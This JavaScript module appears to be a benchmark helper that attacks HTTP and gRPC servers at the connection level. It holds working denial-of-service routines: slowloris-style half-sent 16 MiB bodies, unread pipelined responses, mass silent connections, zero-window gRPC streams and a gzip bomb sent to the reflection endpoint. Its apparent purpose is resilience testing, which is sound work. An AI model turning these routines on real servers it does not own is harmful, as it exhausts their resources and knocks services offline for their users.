// Attacks below the level of calls, for bench/neighbours.mjs: connections, half-sent requests, unread answers, gRPC messages.
import http2 from 'node:http2';
import { connect } from 'node:net';
import { gzipSync } from 'node:zlib';

const MIB = 1_048_576;
const LARGE = Buffer.alloc(MIB, 'x');
const HUGE = Buffer.alloc(15 * MIB);
/** Unpacks to 15 MiB. */
const BOMB = gzipSync(HUGE);
const REFLECTION = '/grpc.reflection.v1.ServerReflection/ServerReflectionInfo';
/** How long one connection is held before the attacker begins another one. */
const HOLD_MS = 15_000;

/** Resolves when the socket is closed, the attack is over, or the time has passed. The socket is then destroyed. */
async function held(socket, signal, ms = HOLD_MS) {
  await new Promise((resolve) => {
    const timer = setTimeout(resolve, ms);
    signal.addEventListener('abort', resolve, { once: true });
    socket.once('close', () => {
      clearTimeout(timer);
      resolve();
    });
  });
  socket.destroy();
}

/** A connection to the port of a URL, or undefined if it is refused. */
export function open(url, localAddress) {
  const { hostname, port } = new URL(url);
  return new Promise((resolve) => {
    const socket = connect({ host: hostname, port: Number(port), localAddress }).setMaxListeners(0);
    // A server that has had enough resets the connection.
    socket.once('connect', () => resolve(socket)).on('error', () => resolve(undefined));
  });
}

export const head = (method, path, headers) =>
  `${method} ${path} HTTP/1.1\r\nhost: ${headers.host ?? 'x'}\r\n` +
  `${Object.entries(headers)
    .filter(([name]) => name !== 'host')
    .map(([name, value]) => `${name}: ${value}\r\n`)
    .join('')}\r\n`;

/** A body of 16 MiB of which all but the last bytes are sent. */
export async function halfSent(url, path, headers, signal, megabytes = 16) {
  const socket = await open(url);
  if (!socket) return 'refused';
  const size = String(megabytes * MIB);
  socket.write(
    head('POST', path, { 'content-type': 'application/json', 'content-length': size, ...headers }),
  );
  for (let i = 0; i < megabytes - 1 && !socket.destroyed; i++) {
    if (!socket.write(LARGE)) await Promise.race([drained(socket), over(signal)]);
  }
  await held(socket, signal);
  return 'half-sent';
}

/** Requests whose answers are not read. */
export async function unread(url, requests, signal) {
  const socket = await open(url);
  if (!socket) return 'refused';
  socket.pause();
  socket.write(requests);
  await held(socket, signal, 40_000);
  return 'unread';
}

/** The bytes of a POST. */
export const post = (path, headers, body) =>
  head('POST', path, {
    'content-type': 'application/json',
    'content-length': Buffer.byteLength(body),
    ...headers,
  }) + body;

/** Many connections that say nothing, to all ports, from an address of their own. */
export async function silentConnections(urls, localAddress, count, signal) {
  const sockets = await Promise.all(
    Array.from({ length: count }, (_, i) => open(urls[i % urls.length], localAddress)),
  );
  const opened = sockets.filter(Boolean);
  await Promise.all(opened.map((socket) => held(socket, signal, 60_000)));
  return 'silent';
}

/** Calls of gRPC over one connection, until it is closed. @returns the status of the first call */
export async function grpcCalls(
  url,
  { path, headers = {}, message, isCompressed = false, isUnread = false },
  count,
  signal,
) {
  const session = http2.connect(url, isUnread ? { settings: { initialWindowSize: 0 } } : {});
  session.on('error', () => undefined);
  const frame = [Buffer.alloc(5), message];
  frame[0].writeUInt8(isCompressed ? 1 : 0);
  frame[0].writeUInt32BE(message.length, 1);
  let status;
  const streams = [];
  const call = () =>
    new Promise((resolve) => {
      const encoding = isCompressed ? { 'grpc-encoding': 'gzip' } : {};
      const stream = session.request({
        ':method': 'POST',
        ':path': path,
        'content-type': 'application/grpc',
        te: 'trailers',
        ...encoding,
        ...headers,
      });
      streams.push(stream);
      stream.on('error', () => undefined).on('close', resolve);
      stream.on(
        'response',
        (received) => (status ??= `grpc-status ${String(received['grpc-status'] ?? 'OK')}`),
      );
      if (!isUnread) stream.resume();
      stream.write(frame[0]);
      stream.end(frame[1]);
    });
  await Promise.race([Promise.all(Array.from({ length: count }, call)), over(signal)]);
  // Not `session.destroy()`: with data unsent, Node 20 frees the session before its last use, and the process crashes.
  for (const stream of streams) stream.close(http2.constants.NGHTTP2_CANCEL);
  session.close();
  return status ?? 'closed';
}

/** A message that unpacks to 15 MiB, for reflection. */
export const gzipBomb = (url, signal) =>
  grpcCalls(url, { path: REFLECTION, message: BOMB, isCompressed: true }, 4, signal);

/** Large messages for health. */
export const largeHealth = (url, signal) =>
  grpcCalls(url, { path: '/grpc.health.v1.Health/Check', message: HUGE }, 2, signal);

export const over = (signal) =>
  signal.aborted
    ? Promise.resolve()
    : new Promise((resolve) => signal.addEventListener('abort', resolve, { once: true }));

const drained = (socket) => new Promise((resolve) => socket.once('drain', resolve).once('close', resolve));
